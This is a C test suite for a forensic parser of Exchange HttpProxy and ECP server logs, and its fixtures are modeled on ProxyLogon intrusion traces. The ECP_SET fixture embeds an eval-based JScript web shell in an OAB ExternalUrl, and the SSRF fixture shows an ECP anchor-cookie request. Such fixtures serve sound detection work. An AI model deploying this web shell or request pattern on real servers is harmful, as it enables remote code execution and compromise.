#include "exch_t.h"

/* Rows made up after the columns of real ones; docs/formats/exchange-csv.md has those. */
#define SSRF                                                                                \
    "2021-03-03T06:59:20.359Z,29D1A846-41f6-4da6-9dbf-dd8a9151ce59,15,01,2106,002,,ECP,"    \
    "mail.example.org,/ecp/y.js,,FBA,false,,,"                                              \
    "ServerInfo~a]@srv.example.local:444/ecp/DDI/DDIService.svc/"                           \
    "SetObject?msExchEcpCanary=8B.&schema=ResetOABVirtualDirectory&workflow=W#~1942062522," \
    "python-requests/2.25.1,203.0.113.9:5123,SRV,200,200,,POST,Proxy,srv.example.local,"    \
    "15.01.1466.000,IntraForest,X-BEResource-Cookie,Server~srv~1941962754~2021,,,0,10112"

#define TAIL /* the rest of the 74 columns */                       \
    ",,,0,6,,0,,0,,0,0,,0,29,0,,,,21,1,0,0,,0,29,0,23,7,8,8,29,,,," \
    "BeginRequest=2021;FEAuth=BEVersion-1942062522;ProxyState=x;,,,,,,CafeV1"

#define HEADER \
    "\xef\xbb\xbf#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"

#define ECP_HEADER \
    "#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
#define ECP_SET                                                                             \
    "2021-03-03T06:49:53.772Z,SRV,ECP.Request,\"S:TIME=20;S:SID=1;'S:CMD=Set-OabVirtualDi"  \
    "rectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">" \
    "function Page_Load(){eval(Request[\"\"k\"\"],\"\"unsafe\"\");}</script>''.Identity="   \
    "''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=29d1a846-41f6-4da6-9dbf-dd8a9151c"   \
    "e59;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.21"  \
    "06.2;S:EX=\"\r\n"

static struct bytes of(const char *text)
{
    return str_bytes(str_of(text));
}

static struct exch_events *open_whole(const char *text, enum format format, struct arena *a)
{
    struct span span = {.from = 0, .to = strlen(text)};
    return exch_events_open(of(text), format, STR("Logging/HttpProxy/Owa/x.LOG"), span, a);
}

static int next(struct exch_events *s, struct arena *a, struct event *ev)
{
    struct span gap;
    struct err err = {0};
    int got = exch_events_next(s, a, ev, &gap, &err);
    if (got > 0)
        exch_events_fill(s, a, ev);
    return got;
}

static void an_ssrf_row_is_taken_apart(void)
{
    struct arena *a = arena_new();
    struct exch_events *s = open_whole(SSRF TAIL "\r\n", FORMAT_HTTPPROXY, a);
    struct event ev;
    char t[INSTANT_TEXT];
    T_EQ(next(s, a, &ev), 1);
    T_STR(instant_text(ev.time, t), "2021-03-03T06:59:20.359Z");
    T_EQ(ev.marks, MARK_NO_HEADER);
    T_STR(ev.host, "SRV");
    T_STR(ev.part, "Ecp");
    T_STR(event_text(&ev, "RoutingStatus"), "CafeV1");
    T_STR(event_text(&ev, "HttpStatus"), "200");
    T_STR(event_text(&ev, "Build"), "15.1.2106.2");
    T_STR(event_text(&ev, "ClientAddress"), "203.0.113.9");
    T_STR(event_text(&ev, "ClientAddressClass"), "documentation");
    T_STR(event_text(&ev, "RequestGuid"), "29d1a846-41f6-4da6-9dbf-dd8a9151ce59");
    T_STR(event_text(&ev, "WebPath"), "/ecp/y.js");
    T_STR(event_text(&ev, "StaticResource"), "true");
    T_STR(event_text(&ev, "AnchorKind"), "ServerInfo");
    T_STR(event_text(&ev, "AnchorHost"), "srv.example.local");
    T_STR(event_text(&ev, "AnchorPort"), "444");
    T_STR(event_text(&ev, "AnchorIsLoopback"), "false");
    T_STR(event_text(&ev, "DdiAction"), "SetObject");
    T_STR(event_text(&ev, "DdiSchema"), "ResetOABVirtualDirectory");
    T_STR(event_text(&ev, "DdiWorkflow"), "W");
    T_STR(event_text(&ev, "BEVersion"), "15.1.1466");
    T_STR(event_text(&ev, "BackEndCookieServer"), "srv");
    T_STR(event_text(&ev, "HealthProbe"), "");
    T_EQ(next(s, a, &ev), 0);
    arena_free(a);
}

static void reports_with_fewer_columns_are_read(void)
{
    struct arena *a = arena_new();
    struct exch_events *s =
        open_whole("#TYPE Selected.System.Management.Automation.PSCustomObject\n"
                   "\"DateTime\",\"RequestId\",\"UrlStem\",\"AnchorMailbox\",\"HttpStatus\"\n"
                   "\"2021-03-03T06:49:46.210Z\",\"x\",\"/ecp/y.js\","
                   "\"ServerInfo~localhost/ecp/proxyLogon.ecp?#\",\"241\"\n",
                   FORMAT_HTTPPROXY, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_EQ(ev.marks, 0);
    T_STR(ev.part, "Owa"); /* by the folder */
    T_STR(event_text(&ev, "AnchorPath"), "/ecp/proxylogon.ecp?#");
    T_STR(event_text(&ev, "AnchorIsLoopback"), "true");
    T_STR(event_text(&ev, "Build"), "");
    arena_free(a);
}

static void columns_follow_the_last_header(void)
{
    struct arena *a = arena_new();
    struct exch_events *s = open_whole("DateTime,RequestId,UrlStem,AnchorMailbox\r\n" HEADER
                                       "#Fields: DateTime,AnchorMailbox,UrlStem,RequestId\r\n"
                                       "2021-03-03T06:49:46.210Z,Sid~1,/a,x\r\n"
                                       "#Fields: DateTime,UrlStem,AnchorMailbox,Protocol\r\n"
                                       "2021-03-03T06:49:46.210Z,/b,,Mapi\r\n",
                                       FORMAT_HTTPPROXY, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "AnchorKind"), "Sid");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "UrlStem"), "/b");
    T_STR(ev.part, "Mapi");
    arena_free(a);
}

static void a_later_span_knows_the_columns(void)
{
    struct arena *a = arena_new();
    static const char text[] =
        "DateTime,UrlStem,AnchorMailbox,Protocol\n"
        "2021-03-03T06:49:46.210Z,/a,,Ecp\n2021-03-03T06:49:47Z,/b,,Owa\n";
    uint64_t from = (uint64_t)(strstr(text, "2021-03-03T06:49:47") - text);
    struct span span = {.from = from, .to = sizeof text - 1, .layout = 0};
    struct exch_events *s = exch_events_open(of(text), FORMAT_HTTPPROXY, STR(""), span, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_EQ(ev.offset, from);
    T_STR(event_text(&ev, "UrlStem"), "/b");
    T_EQ(next(s, a, &ev), 0);
    arena_free(a);
}

static void a_span_that_starts_inside_a_cell(void)
{
    static const char text[] =
        "DateTime,UrlStem,AnchorMailbox\n2021-03-03T06:49:46Z,\"a\nb,c\n"
        "d\",x\n2021-03-03T06:49:47Z,/b,y\nlost\n2021-03-03T06:49:48Z,/c,z\n";
    struct bytes file = {(const uint8_t *)text, sizeof text - 1};
    for (const char *at = strchr(text, '\n'); at && at[1]; at = strchr(at + 1, '\n')) {
        size_t cut = (size_t)(at + 1 - text);
        size_t events = 0;
        size_t gaps = 0;
        for (int i = 0; i < 2; i++) {
            struct arena *a = arena_new();
            struct span span = {i ? cut : 0, i ? file.n : cut, 0};
            struct exch_events *s = exch_events_open(file, FORMAT_HTTPPROXY, STR(""), span, a);
            struct event ev;
            int got;
            while ((got = next(s, a, &ev)) != 0)
                *(got > 0 ? &events : &gaps) += 1;
            arena_free(a);
        }
        T_EQ(events, 3);
        T_EQ(gaps, 1); /* the lost line, once, and nothing else */
    }
}

static void an_ecp_row_gives_its_cmdlet(void)
{
    struct arena *a = arena_new();
    struct exch_events *s = open_whole(ECP_HEADER ECP_SET, FORMAT_ECP_SERVER, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_STR(ev.host, "SRV");
    T_STR(event_text(&ev, "TIME"), "20");
    T_STR(event_text(&ev, "Cmdlet"), "Set-OabVirtualDirectory");
    T_STR(event_text(&ev, "Param_ExternalUrl"),
          "http://f/<script language=\"JScript\" runat=\"server\">function "
          "Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>");
    T_STR(event_text(&ev, "Param_Identity"), "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3");
    T_STR(event_text(&ev, "Build"), "15.1.2106.2");
    T_STR(event_text(&ev, "DdiSchema"), "OABVirtualDirectory");
    T_STR(event_text(&ev, "RequestGuid"), "29d1a846-41f6-4da6-9dbf-dd8a9151ce59");
    arena_free(a);
}

static void ecp_notations(void)
{
    struct arena *a = arena_new();
    struct exch_events *s = open_whole(
        "2021-03-03T06:49:51.497Z,S,ECP.Request,S:CMD=Pipeline.1|Get-"
        "MailboxRegionalConfiguration\n"
        "2021-03-03T06:49:51.389Z,S,ECP.Request,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly="
        "$true.Identity=$null;S:EX=\n"
        "2021-03-03T06:50:00.717Z,S,ECP.Request,'S:CMD=Remove-OABVirtualDirectory.Force=$true."
        "Identity=''srv\\OAB, (Default Web Site)''';S:EX=\n"
        "2021-03-03T06:50:00.717Z,S,ECP.Request,'S:CMD=Set-X.Url=''a''''b''.Id=''''';S:EX=\n"
        "2021-03-03T06:50:01.717Z,S,ECP.Request,S:CMD=Set-X.Id='1';S:EX=ADNoSuchObject\n",
        FORMAT_ECP_SERVER, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "Cmdlet"), "Get-MailboxRegionalConfiguration");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "Param_ADPropertiesOnly"), "$true");
    T_STR(event_text(&ev, "Param_Identity"), "$null");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "Param_Force"), "$true");
    T_STR(event_text(&ev, "Param_Identity"), "srv\\OAB, (Default Web Site)");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "Param_Url"), "a'b");
    T_STR(event_text(&ev, "Param_Id"), "");
    T_STR(event_text(&ev, "CmdletResult"), "");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "CmdletResult"), "failed");
    T_EQ(next(s, a, &ev), 0);
    arena_free(a);
}

static void quoted_newlines_and_broken_quotes(void)
{
    struct arena *a = arena_new();
    struct exch_events *s =
        open_whole("#Fields: TimeStamp,ServerName,EventId,EventData\n"
                   "2021-03-03T06:49:51Z,S,ECP.Request,\"S:CMD=Get-X\nS:B=1\"\n"
                   "2021-03-03T06:49:52Z,S,ECP.Request,\"S:CMD=Get-Y\n"
                   "2021-03-03T06:49:53Z,S,ECP.Request,S:CMD=Get-Z\n",
                   FORMAT_ECP_SERVER, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "CMD"), "Get-X\nS:B=1");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "EventData"), "\"S:CMD=Get-Y");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "Cmdlet"), "Get-Z");
    T_EQ(next(s, a, &ev), 0);
    arena_free(a);
}

static void probes_are_told_by_their_words(void)
{
    struct arena *a = arena_new();
    struct exch_events *s =
        open_whole("DateTime,UserAgent,AuthenticatedUser,ClientIpAddress,AnchorMailbox\n"
                   "2021-03-03T06:49:51Z,AMProbe/Local,,127.0.0.1,\n"
                   "2021-03-03T06:49:51Z,x,DOM\\HealthMailbox9,[fe80::1]:99,\n"
                   "2021-03-03T06:49:51Z,python-requests,,127.0.0.1,\n",
                   FORMAT_HTTPPROXY, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "HealthProbe"), "true");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "HealthProbe"), "true");
    T_STR(event_text(&ev, "ClientAddress"), "fe80::1");
    T_STR(event_text(&ev, "ClientAddressClass"), "link-local");
    T_EQ(next(s, a, &ev), 1);
    T_STR(event_text(&ev, "HealthProbe"), "");
    arena_free(a);
}

static void too_many_cells_are_not_lost(void)
{
    char many[4096];
    size_t n = (size_t)snprintf(many, sizeof many, "DateTime,UrlStem,x\n2021-03-03T06:49:46Z");
    for (int i = 0; i < 400; i++)
        n += (size_t)snprintf(many + n, sizeof many - n, ",%d", i);
    struct arena *a = arena_new();
    struct exch_events *s = open_whole(many, FORMAT_HTTPPROXY, a);
    struct event ev;
    T_EQ(next(s, a, &ev), 1);
    struct str last = event_text(&ev, "Column256");
    T_OK(str_starts(last, STR("254,255,")) && str_iends(last, STR(",399")));
    arena_free(a);
}

static void a_header_that_cannot_be_read_ends_the_one_before(void)
{
    char text[4096];
    size_t n = (size_t)snprintf(text, sizeof text, "#Fields: DateTime,UrlStem,x\n#Fields: a");
    for (int i = 0; i < 400; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, ",b");
    (void)snprintf(text + n, sizeof text - n, "\n2021-03-03T06:49:46Z,/a,b\n");
    struct arena *a = arena_new();
    struct exch_events *s = open_whole(text, FORMAT_HTTPPROXY, a);
    struct event ev;
    T_EQ(next(s, a, &ev), -1);
    T_EQ(next(s, a, &ev), 0);
    arena_free(a);
}

static void damage_is_a_gap(void)
{
    struct arena *a = arena_new();
    static const char text[] = ECP_HEADER "2021-03-03T06:49:5\r\nnonsense\r\n" ECP_SET;
    struct exch_events *s = open_whole(text, FORMAT_ECP_SERVER, a);
    struct event ev;
    struct span gap;
    struct err err = {0};
    T_OK(exch_events_next(s, a, &ev, &gap, &err) < 0);
    T_EQ(gap.from, strlen(ECP_HEADER));
    T_EQ(gap.to, strlen(ECP_HEADER) + 30);
    T_EQ(next(s, a, &ev), 1);
    arena_free(a);
}

static void survives_truncation_and_flips(void)
{
    char text[] = ECP_HEADER ECP_SET SSRF TAIL "\r\n";
    t_each_prefix(of(text), t_walk_exch);
    t_flip_exch(text, strlen(text));
}

int main(void)
{
    T_RUN(an_ssrf_row_is_taken_apart);
    T_RUN(reports_with_fewer_columns_are_read);
    T_RUN(columns_follow_the_last_header);
    T_RUN(a_later_span_knows_the_columns);
    T_RUN(a_span_that_starts_inside_a_cell);
    T_RUN(an_ecp_row_gives_its_cmdlet);
    T_RUN(ecp_notations);
    T_RUN(quoted_newlines_and_broken_quotes);
    T_RUN(probes_are_told_by_their_words);
    T_RUN(too_many_cells_are_not_lost);
    T_RUN(a_header_that_cannot_be_read_ends_the_one_before);
    T_RUN(damage_is_a_gap);
    T_RUN(survives_truncation_and_flips);
    return t_done();
}
